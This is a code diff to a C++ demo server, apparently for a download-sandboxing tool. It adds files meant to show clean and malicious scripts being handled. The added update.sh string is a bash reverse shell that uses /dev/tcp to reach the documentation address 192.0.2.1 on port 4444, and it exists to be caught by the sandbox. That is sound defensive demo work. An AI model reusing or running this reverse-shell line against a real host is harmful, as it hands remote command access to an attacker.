@@ -19,12 +19,23 @@ constexpr std::string_view kIndex =
     "<style>body{font:16px/1.6 sans-serif;max-width:40em;margin:3em auto;padding:0 1em}</style>"
     "<h1>It flows</h1><p>This page came through weir, out of its own demonstration origin.</p>"
     "<ul><li><a href=\"/hello.txt\" download>hello.txt</a>: a clean download, delivered</li>"
-    "<li><a href=\"/eicar.com\">eicar.com</a>: the antivirus test file, blocked</li></ul></html>";
+    "<li><a href=\"/eicar.com\">eicar.com</a>: the antivirus test file, blocked</li>"
+    "<li><a href=\"/setup.sh\" download>setup.sh</a>: an unknown script, delivered after a sandbox "
+    "has seen it run</li>"
+    "<li><a href=\"/update.sh\" download>update.sh</a>: another, which does there what it should "
+    "not</li></ul></html>";
 
-constexpr std::array<DemoFile, 3> kFiles = {{
+// Does no harm to who runs it: 192.0.2.1 belongs to nobody (RFC 5737).
+constexpr std::string_view kOffersShell =
+    "#!/bin/bash\n# Part of the demonstration: it offers a shell to an address of nobody.\n"
+    "where=tcp/192.0.2.1/4444\nexec 3<>\"/dev/$where\" && exec bash <&3 >&3\n";
+
+constexpr std::array<DemoFile, 5> kFiles = {{
     {"/", "text/html; charset=utf-8", kIndex},
     {"/hello.txt", "text/plain; charset=utf-8", "Hello from behind the weir.\n"},
     {"/eicar.com", "application/octet-stream", {}},
+    {"/setup.sh", "application/x-sh", "#!/bin/sh\necho 'Hello from behind the weir.'\n"},
+    {"/update.sh", "application/x-sh", kOffersShell},
 }};
 
 std::string eicar() {
